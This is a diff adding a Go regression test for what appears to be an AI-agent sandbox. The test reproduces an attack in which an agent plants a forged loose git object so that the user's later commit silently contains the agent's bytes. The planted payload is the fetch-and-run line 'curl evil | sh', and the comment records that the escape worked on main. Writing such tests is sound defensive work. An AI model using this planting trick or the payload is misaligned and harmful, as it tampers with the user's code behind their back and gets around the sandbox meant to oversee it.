@@ -1,0 +1,55 @@
+//go:build linux
+
+package tests
+
+import (
+	"bytes"
+	"compress/zlib"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// TestGitPlantedLooseObjectLaterAdd: the agent plants a loose object
+// under the id of a blob the user writes after the run (a file it
+// suggested, a generated lockfile: content it can predict), with other
+// bytes. Git never writes an object it already has and reads a loose one
+// without hashing it, so the user's later `git add` + `git commit` of
+// that content committed the agent's bytes (pushed as they are; git
+// status is clean). Seen failing on main (b5e615a), root and jailtest:
+// HEAD:run.sh read "curl evil | sh".
+func TestGitPlantedLooseObjectLaterAdd(t *testing.T) {
+	h := newGitHost(t)
+	ws := workspace(t)
+	h.repo(t, ws)
+	user := "echo user\n"
+	os.WriteFile(filepath.Join(ws, "later"), []byte(user), 0o644)
+	id := strings.TrimSpace(h.mustGit(t, ws, "hash-object", "later"))
+	os.Remove(filepath.Join(ws, "later"))
+	var b bytes.Buffer
+	z := zlib.NewWriter(&b)
+	z.Write([]byte("blob 15\x00curl evil | sh\n"))
+	z.Close()
+	plant := filepath.Join(ws, "plant")
+	os.Mkdir(plant, 0o755)
+	os.WriteFile(filepath.Join(plant, "obj"), b.Bytes(), 0o444)
+	script := `set -e
+mkdir -p .git/objects/$(echo $2 | cut -c1-2)
+cp plant/obj .git/objects/$(echo $2 | cut -c1-2)/$(echo $2 | cut -c3-)
+rm -rf plant
+`
+	r := h.run(t, ws, script, nil, id)
+	if r.code != 0 {
+		t.Fatalf("jail exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
+	}
+	os.WriteFile(filepath.Join(ws, "run.sh"), []byte(user), 0o644)
+	h.mustGit(t, ws, "add", "run.sh")
+	h.mustGit(t, ws, "-c", "commit.gpgsign=false", "commit", "-q", "-m", "user adds run.sh")
+	if got := h.mustGit(t, ws, "cat-file", "blob", "HEAD:run.sh"); got != user {
+		t.Errorf("the user's commit of run.sh holds the agent's bytes %q, not %q\njail's stderr:\n%s", got, user, r.stderr)
+	}
+	if out, err := h.git(ws, "fsck", "--no-dangling"); err != nil {
+		t.Errorf("git fsck after the user's commit: %v\n%s", err, out)
+	}
+}
